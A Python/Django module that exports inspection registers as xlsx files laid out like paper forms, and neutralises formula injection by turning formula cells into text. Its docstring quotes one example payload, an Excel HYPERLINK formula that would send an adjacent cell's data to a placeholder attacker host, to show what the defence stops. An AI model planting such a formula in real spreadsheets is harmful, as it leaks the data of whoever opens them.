"""Registers for inspectors: xlsx laid out like the paper register (title, campus, period, a
bordered table, signature line). Every app's export calls ``xlsx_register``; a table that is read
back in (the roster) is written by ``dataset_xlsx``.

Every text is written as a text cell, never as a formula: a child named
``=HYPERLINK("http://evil.example/?d="&B5,"点我")`` is that name in Excel and WPS, not a live link
that sends the row next to it away, and it reads back unchanged (``text_cells``)."""

import io

from django.http import HttpResponse
from django.utils.encoding import escape_uri_path
from django.utils.translation import gettext as _
from openpyxl import Workbook
from openpyxl.styles import Alignment, Border, Font, Side
from openpyxl.utils import get_column_letter

XLSX_TYPE = "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet"
THIN = Side(style="thin", color="000000")
BOX = Border(left=THIN, right=THIN, top=THIN, bottom=THIN)


def xlsx_register(title: str, campus, period: str, headers: list, rows, signatures=None) -> bytes:
    """The register as xlsx bytes. ``rows`` is an iterable of lists of cell values."""
    wb = Workbook()
    ws = wb.active
    ws.title = _sheet_title(title)
    width = max(len(headers), 1)
    ws.append([title])
    ws.merge_cells(start_row=1, start_column=1, end_row=1, end_column=width)
    ws["A1"].font = Font(size=16, bold=True)
    ws["A1"].alignment = Alignment(horizontal="center")
    ws.append([_("Campus: %(campus)s    Period: %(period)s") % {"campus": campus, "period": period}])
    ws.merge_cells(start_row=2, start_column=1, end_row=2, end_column=width)
    ws.append(list(headers))
    for cell in ws[3]:
        cell.font = Font(bold=True)
        cell.border = BOX
        cell.alignment = Alignment(horizontal="center", vertical="center", wrap_text=True)
    widths = [max(len(str(h)) * 2, 8) for h in headers]
    count = 0
    for row in rows:
        ws.append(list(row))
        count += 1
        for index, value in enumerate(row):
            widths[index] = min(max(widths[index], len(str(value)) * 2 if value is not None else 0), 60)
    for row_cells in ws.iter_rows(min_row=4, max_row=3 + count, max_col=width):
        for cell in row_cells:
            cell.border = BOX
            cell.alignment = Alignment(vertical="top", wrap_text=True)
    for index, w in enumerate(widths, start=1):
        ws.column_dimensions[get_column_letter(index)].width = w + 2
    ws.append([])
    ws.append(signatures or [_("Recorded by:"), "", _("Checked by:"), "", _("Date:")])
    text_cells(ws)
    ws.print_title_rows = "3:3"
    ws.page_setup.orientation = "landscape"
    ws.page_setup.fitToWidth = 1
    buffer = io.BytesIO()
    wb.save(buffer)
    return buffer.getvalue()


def _sheet_title(title) -> str:
    from tablib.formats._xlsx import safe_xlsx_sheet_title

    return safe_xlsx_sheet_title(str(title or "Sheet1"))


def text_cells(ws) -> None:
    """Make every cell openpyxl took for a formula (a str starting with ``=``) a text cell."""
    for row in ws.iter_rows():
        for cell in row:
            if cell.data_type == "f":
                cell.data_type = "s"


def dataset_xlsx(dataset, title: str = "") -> bytes:
    """A tablib Dataset as xlsx, laid out as tablib does (bold header row, frozen below it), texts as text."""
    from tablib.formats._xlsx import XLSXFormat

    wb = Workbook()
    ws = wb.active
    ws.title = _sheet_title(title or dataset.title)
    XLSXFormat.dset_sheet(dataset, ws)
    XLSXFormat._adapt_column_width(ws, "adaptive")
    text_cells(ws)
    buffer = io.BytesIO()
    wb.save(buffer)
    return buffer.getvalue()


def xlsx_response(content: bytes, filename: str) -> HttpResponse:
    response = HttpResponse(content, content_type=XLSX_TYPE)
    response["Content-Disposition"] = f"attachment; filename*=UTF-8''{escape_uri_path(filename)}"
    return response
